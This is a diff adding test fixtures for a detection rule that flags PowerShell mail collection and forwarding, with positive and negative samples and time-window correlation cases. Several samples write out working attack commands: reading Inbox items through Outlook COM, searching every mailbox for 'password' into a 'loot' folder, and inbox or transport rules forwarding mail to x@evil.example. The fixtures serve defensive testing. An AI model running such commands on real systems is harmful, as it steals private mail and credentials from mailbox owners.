@@ -110,6 +110,8 @@ FIXTURES[R] = [
         sb("$o = New-Object -Com 'Outl`ook.Appli`cation'; $n = $o.GetN`amespace('MAPI'); $f = $n.GetDefaultFolder(6).Items.Restrict(\"[Unread] = true\"); foreach ($m in $f) { $m.SaveAs(\"C:\\Users\\Public\\m\\$($m.EntryID).msg\") }", dataset="windows.forwarded")),
     pos(R, "mixed_case_shared_folder", "Mixed-case names reading another user's shared Inbox.",
         sb("$ol=new-object -comobject OUTLOOK.APPLICATION;$ns=$ol.GETNAMESPACE('MAPI');$r=$ns.CreateRecipient('ceo');$ns.getshareddefaultfolder($r,6).items|%{$_.Body}")),
+    pos(R, "all_lower_case_one_line", "The whole script in lower case: Elastic's script_block_text is a text field, matched on its value in any case.",
+        sb("$o=new-object -comobject outlook.application;$o.getnamespace('mapi').getdefaultfolder(6).items|%{$_.subject}")),
     neg(R, "report_sent_through_outlook", "A reporting script creates and sends one message through Outlook; it reads no mail.",
         sb("$ol = New-Object -ComObject Outlook.Application\n$mail = $ol.CreateItem(0)\n$mail.To = 'it-reports@contoso.com'\n$mail.Subject = 'Disk report'\n$mail.Send()")),
     neg(R, "outlook_profile_registry_script", "Profile deployment script touching Outlook registry keys, no COM.",
@@ -245,6 +247,8 @@ FIXTURES[R] = [
         sb("Get-Mailbox -ResultSize Unlimited | Search-Mailbox -SearchQuery 'password' -TargetM svc -TargetF loot", host=EXCH)),
     pos(R, "compliance_export_backticks", "New-ComplianceSearchAction with backticks and an abbreviated -Exp.",
         sb("New-ComplianceSearch -Name x -ExchangeLocation All -ContentMatchQuery 'secret'; Start-ComplianceSearch x; New-Compliance`SearchAction -SearchName x -Exp", host=EXCH)),
+    pos(R, "search_mailbox_all_lower_case", "Search-Mailbox copying results to a target mailbox, typed in lower case.",
+        sb("get-mailbox -resultsize unlimited | search-mailbox -searchquery 'password' -targetmailbox svc -targetfolder loot", host=EXCH)),
     neg(R, "estimate_only", "Search-Mailbox estimating only.", sb("Search-Mailbox -Identity ceo -SearchQuery invoice -EstimateResultOnly", host=EXCH)),
     neg(R, "compliance_purge", "Compliance search action purging phishing mail.",
         sb("New-ComplianceSearchAction -SearchName phish-0311 -Purge -PurgeType SoftDelete -Confirm:$false", host=EXCH)),
@@ -271,6 +275,8 @@ FIXTURES[R] = [
         sb("New-Inbox`Rule -Name '.' -Mailbox cfo -From bank@contoso.com -ForwardTo:\"x@evil.example\" -StopProcessingRules $true", dataset="windows.forwarded")),
     pos(R, "transport_rule_bcc_en_dash", "New-TransportRule BCCing all mail, with an en dash before the parameter.",
         sb("new-transportrule -Name 'Journal' \u2013BlindCopyTo archive@evil.example -SentToScope InOrganization")),
+    pos(R, "inbox_rule_split_across_lines", "New-InboxRule written over several lines with backtick continuations: the cmdlet and -ForwardTo sit on different lines of one script block.",
+        sb("new-inboxrule -Name 'sync' `\n    -Mailbox cfo `\n    -SubjectContainsWords 'invoice' `\n    -ForwardTo 'x@evil.example'")),
     neg(R, "set_mailbox_clears_forwarding", "Set-Mailbox clearing forwarding after an incident.",
         sb("Set-Mailbox -Identity ceo -ForwardingSmtpAddress $null -DeliverToMailboxAndForward $false")),
     neg(R, "inbox_rule_moves_newsletters", "New-InboxRule moving newsletters to a folder.",
@@ -363,4 +369,16 @@ FIXTURES[R] = [
          [COPY, dict(COPY, target="C:\\Users\\Public\\p.pst")], no_match=[R]),
     case("signals_hours_apart", "Two signals on one host two hours apart.",
          [COPY, dict(SMTP, at=7200)], no_match=[R]),
+    case("signals_either_side_of_half_hour", "Two signals ten minutes apart on either side of 09:30, the edge of a fixed 30-minute window: "
+         "the window slides over them (Elastic: the window starting at 09:15 holds both).",
+         [COPY, dict(SMTP, at=600)], match=[R], time="2026-11-20T09:25:00Z"),
+    case("one_script_block_two_signals", "One script block reads the Inbox through COM and sets forwarding: two signals in one event.",
+         [sb(OUTLOOK_COM_SCRIPT + "\nSet-Mailbox -Identity bob -ForwardingSmtpAddress smtp:x@evil.example")],
+         match=[R, "win_outlook_automation_script", "win_exchange_forwarding_cmdlet_script"]),
+    case("signals_35_minutes_apart", "Two signals on one host 35 minutes apart: outside the 30-minute window.",
+         [COPY, dict(SMTP, at=2100)], no_match=[R]),
+    case("signals_25_minutes_apart", "Two signals on one host 25 minutes apart: inside Sigma's sliding window. Elastic's ES|QL form "
+         "finds them only when they share one of its windows (30 minutes long, one starting every 7.5 minutes), so this case "
+         "is reported unverified there.",
+         [COPY, dict(SMTP, at=1500)], match=[R]),
 ]
